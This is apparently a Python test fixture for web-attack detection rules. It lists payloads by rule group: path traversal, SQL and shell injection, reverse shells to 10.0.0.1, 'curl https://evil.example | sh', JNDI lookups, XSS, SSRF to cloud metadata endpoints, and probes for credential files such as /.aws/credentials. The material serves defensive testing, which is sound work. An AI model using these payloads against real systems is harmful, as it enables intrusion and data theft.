"""Attacks, by the group of the rules that must find them."""

from __future__ import annotations

from urllib.parse import quote

from tests.rules.benign import CHROME, Asked

ARGUMENTS: dict[str, list[str]] = {
    "traversal": [
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc/passwd", "....//....//../etc/hosts",
        "/var/www/../../etc/shadow", "..%2f..%2f..%2fetc%2fpasswd", "..;/manager/html", "file=../secret", "a/../../b",
        "..%252f..%252fboot.ini",
    ],
    "files": ["/etc/passwd", "/etc/shadow", "/proc/self/environ", "C:\\Windows\\System32\\drivers\\etc\\hosts", "c:/boot.ini"],
    "protocol": [
        "x\r\nSet-Cookie: admin=1", "x\r\nLocation: https://evil.example/", "a\r\n\r\nHTTP/1.1 200 OK",
        "\r\nGET /admin HTTP/1.1\r\nHost: x\r\n", "a.php\0.jpg", "x%0d%0aSet-Cookie:%20a=b", "a%00b",
        "x\nContent-Length: 0", "0\r\n\r\nPOST /x HTTP/1.1\r\n",
    ],
    "sql": [
        "1 union select 1,2,3", "1' UNION ALL SELECT null,null--", "-1 UnIoN/**/SeLeCt/**/password/**/from/**/users",
        "1/*!50000union*/ /*!50000select*/ 1,2", "' or 1=1--", "' or '1'='1", "\" or \"\"=\"", "1 or 1=1", "1) or (1=1",
        "admin'--", "admin' #", "admin'/*", "x' and 1=2 --", "1 and 1=1", "1' and '1'='2", "'||'1'='1",
        "1; drop table users", "1'; DROP TABLE users--", "1; insert into users values (1)", "1; exec xp_cmdshell('dir')",
        "1; waitfor delay '0:0:5'--", "1 and sleep(5)", "1' and sleep(5)#", "pg_sleep(10)", "benchmark(10000000,md5(1))",
        "extractvalue(1,concat(0x7e,version()))", "updatexml(1,concat(0x7e,user()),1)", "load_file('/x')",
        "x' order by 10--", "1 order by 5--", "' having 1=1--", "(select * from information_schema.tables)",
        "1 union select @@version", "'; shutdown--", "1%20union%20select%201", "1%2527%20or%201%253D1",
        "' or true--", "1' or '1' like '1", "1 || 1=1", "' union select null,table_name from information_schema.tables--",
        "1 union(select(1),2)", "'or'1'='1", "x' into outfile '/tmp/a", "randomblob(1000000000)",
        "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)", "select * from sqlite_master union select 1", "1;select pg_sleep(5)",
    ],
    "nosql": ["'; return true; var x='", '{"$where":"sleep(1000)"}', "' || this.password == 'x", "db.users.drop()"],
    "shell": [
        "; cat /etc/hosts2", "| cat /tmp/x", "&& wget http://evil.example/x", "`id`", "$(whoami)", "$(curl http://e.example)",
        "; ls -la", "|whoami", "127.0.0.1; cat ../x", "a;c'a't /tmp/x", 'x|c"a"t /tmp/x', "x; c\\at /tmp/x", "cat${IFS}/tmp",
        "|| ping -c 10 10.0.0.1", "& ping -n 10 127.0.0.1 &", "/bin/bash -i", "bash -i >& /dev/tcp/10.0.0.1/443 0>&1",
        "cmd /c dir", "cmd.exe /c whoami", "powershell -enc aQBkAA", "\nid", "; nc -e /bin/sh 10.0.0.1 4444", "() { :; }; echo x",
        "; curl https://evil.example | sh", "{cat,/tmp/x}", "; python3 -c 'import os'", "$(sleep 10)", "| uname -a",
    ],
    "template": [
        "{{7*7}}", "${7*7}", "#{7*7}", "{{config.items()}}", "{{ self.__init__ }}", "{{''.__class__.__mro__}}",
        "{% import os %}", "<%= system('id') %>", "*{T(java.lang.Runtime)}", "${T(java.lang.System).getenv()}",
        "{{request.application}}", "{{ cycler.__init__ }}", "<#assign ex=1>", '<!--#exec cmd="ls" -->', "{{7*'7'}}",
        '<esi:include src="http://x/"/>', "#set($x=1)",
    ],
    "code": [
        "x.__class__.__bases__", "__import__('os').popen('x')", "os.system('id')", "require('child_process').exec('x')",
        "process.mainModule.require", "java.lang.Runtime.getRuntime().exec", "%{(#_memberAccess)}", "rO0ABXNyABFqYXZhLnV0aWw=",
        "aced00057372001164", "new ProcessBuilder('x')", "_$$ND_FUNC$$_function(){}", "constructor.prototype.x",
    ],
    "ldap": ["*)(uid=*))(|(uid=*", "*)(&", "admin)(&)", "*))%00", "x)(|(password=*))", "(&(uid=a)", "*)(objectClass=*"],
    "xpath": [
        "x'] | //user/*[contains(*,'", "' or count(//user)=1 or 'a'='b", "ancestor::node()", "count(/child::node())",
        "' or position()=1 or '", "string-length(//user[1])", "x' or name()='username",
    ],
    "php": [
        "php://filter/convert.base64-encode/resource=index", "php://input", "phar://x.phar", "expect://id",
        "data:text/plain;base64,PD9waHA=", "<?php echo 1;", "<?= 1 ?>", "phpinfo()", "system($_GET['x'])",
        'O:8:"stdClass":1:{s:1:"a";i:1;}', "eval(base64_decode('x'))", "shell_exec('id')", "${@phpinfo()}",
        "allow_url_include=1", "file_put_contents('x','y')",
    ],
    "jndi": [
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}di:rmi://x}", "${env:AWS_SECRET}",
        "%24%7bjndi:dns://x%7d", "${jndi:${lower:l}dap://x}", "${sys:user.home}",
    ],
    "xss": [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "<svg onload=alert`1`>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\"><script>",
        "' onmouseover=alert(1) x='", '" onfocus=alert(1) autofocus="', "<iframe src=javascript:alert(1)>",
        "<body onload=alert(1)>", "<a href='javascript:x'>", "&#106;avascript:alert(1)", "&lt;script&gt;alert(1)",
        "<object data=x>", "<embed src=x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0>",
        "'-alert(1)-'", "\";alert(1)//", "</script><script>x", "<details open ontoggle=alert(1)>", "document.cookie",
        "String.fromCharCode(88)", "<input autofocus onfocus=alert(1)>", "data:text/html;base64,PHNjcmlwdD4=",
        "%3Cscript%3Ealert(1)%3C/script%3E", "<video><source onerror=alert(1)>", "<math href=javascript:x>", "<x onclick=y>",
        "<script\n>alert(1)", "<scr\0ipt>alert(1)", "alert(document.domain)", "prompt(1)",
    ],
    "xml": [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///x">]>', "<!ENTITY % x SYSTEM 'http://e.example/'>",
        '<xi:include href="x"/>', '<!DOCTYPE x SYSTEM "http://e.example/x.dtd">', "<xsl:value-of select='x'/>",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
        "http://100.100.100.200/latest", "http://2852039166/", "gopher://127.0.0.1:6379/_x", "dict://127.0.0.1:11211/stat",
        "file:///tmp/x", "ldap://127.0.0.1/", "http://[fd00:ec2::254]/", "tftp://10.0.0.1/x", "http://0xa9fea9fe/",
        "jar:http://x!/", "http://169.254.170.2/v2/credentials", "netdoc:///x",
    ],
}  # fmt: skip
"""Values of an argument."""

NAMES: dict[str, list[str]] = {
    "nosql": ["user[$ne]", "password[$regex]", "a[$gt]", "x[$where]"],
    "code": ["__proto__[x]", "constructor[prototype][x]", "class.module.classLoader.resources"],
    "sql": ["id' or 1=1--", "x union select 1"],
    "xss": ["<script>", "\"><img src=x onerror=alert(1)>"],
    "php": ["-d allow_url_include", "_SESSION[x]=<?php"],
    "jndi": ["${jndi:ldap://x}"],
}  # fmt: skip

PATHS: dict[str, list[str]] = {
    "traversal": ["/static/%252e%252e%252fetc", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/x", "/x/%252e%252e/%252e%252e/y"],
    "files": [
        "/.git/config", "/.git/HEAD", "/.env", "/.env.production", "/app/.env", "/.svn/entries", "/.aws/credentials",
        "/.ssh/id_rsa", "/.htpasswd", "/wp-config.php.bak", "/wp-config.php~", "/index.php.bak", "/config.old", "/db.sql",
        "/backup.zip", "/dump.sql.gz", "/phpmyadmin/", "/phpMyAdmin/index.php", "/actuator/env", "/actuator/heapdump",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_ignition/execute-solution", "/manager/html", "/HNAP1/",
        "/boaform/admin/formLogin", "/server-status", "/info.php", "/phpinfo.php", "/.DS_Store", "/web.config", "/.git%2fconfig",
        "/settings.py", "/docker-compose.yml", "/cgi-bin/luci", "/.hg/store", "/site.tar.gz", "/.npmrc", "/%2eenv",
        "/solr/admin/cores", "/adminer.php", "/id_rsa", "/.kube/config", "/index.php.swp", "/database.sqlite",
    ],
    "sql": ["/item/1%20union%20select%201,2", "/item/1'%20or%20'1'='1", "/item/1;drop%20table%20users"],
    "xss": ["/%3Cscript%3Ealert(1)%3C/script%3E", "/x%22onmouseover=%22alert(1)", "/%3Csvg%20onload=x%3E"],
    "shell": ["/ping;cat%20/tmp/x", "/a%60id%60", "/x$(whoami)"],
    "jndi": ["/$%7Bjndi:ldap://x%7D"],
    "template": ["/%7B%7B7*7%7D%7D", "/$%7B7*7%7D"],
    "php": ["/index.php/php://input", "/public/index.php/index/%5Cthink%5Capp/invokefunction"],
    "code": ["/x.action;class.module.classLoader"],
}  # fmt: skip

FIELDS: dict[str, list[tuple[str, str]]] = {
    "scanner": [("user-agent", agent) for agent in (
        "sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)", "Nuclei - Open-source project", "WPScan v3.8",
        "gobuster/3.6", "masscan/1.3", "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
        "feroxbuster/2.1",
        "Fuzz Faster U Fool v2 ffuf", "dirsearch", "acunetix-wvs", "libredtail-http", "ZmEu",
    )],
    "jndi": [
        ("user-agent", "${jndi:ldap://evil.example/a}"), ("x-api-version", "${jndi:ldap://x/a}"),
        ("referer", "${${::-j}ndi:rmi://x}"), ("x-forwarded-for", "${jndi:dns://x}"), ("accept", "${${lower:j}ndi:ldap://x}"),
        ("cookie", "a=${jndi:ldap://x}"),
    ],
    "shell": [("user-agent", "() { :;}; /bin/bash -c id"), ("x-test", "() { ignored; }; echo"), ("referer", "() { x;}; y")],
    "sql": [
        ("cookie", "id=1' or '1'='1"), ("user-agent", "x' and sleep(5)--"), ("cookie", "a=b; c=1 union select 1,2"),
        ("referer", "https://x/?a=1' union select 1--"),
    ],
    "xss": [("user-agent", "<script>alert(1)</script>"), ("referer", "https://x/<script>"), ("cookie", "a=<svg onload=x>")],
    "traversal": [("cookie", "lang=../../../../etc/passwd"), ("cookie", "t=..%2f..%2fx")],
    "protocol": [("content-type", "application/x-www-form-urlencoded; charset=ibm037"),
                 ("content-type", "text/xml; charset=UTF-7")],
    "code": [("cookie", "s=rO0ABXNyABFqYXZhLnV0aWw=")],
    "php": [("user-agent", "<?php system($_GET[1]); ?>"), ("cookie", 's=O:3:"Foo":0:{}'.replace(";", "%3B"))],
}  # fmt: skip


def requests() -> list[tuple[str, Asked]]:
    """With each, the group that must find it."""
    plain = [("user-agent", CHROME)]
    made: list[tuple[str, Asked]] = []
    for group, values in ARGUMENTS.items():
        made += [
            (group, (f"/page?q={quote(value, safe='%') if '%' in value else quote(value, safe='')}", plain))
            for value in values
        ]
    for group, names in NAMES.items():
        made += [(group, (f"/page?{quote(name, safe='')}=1", plain)) for name in names]
    for group, paths in PATHS.items():
        made += [(group, (path, plain)) for path in paths]
    for group, fields in FIELDS.items():
        made += [
            (group, ("/page", [*([] if name == "user-agent" else plain), (name, value)])) for name, value in fields
        ]
    return made
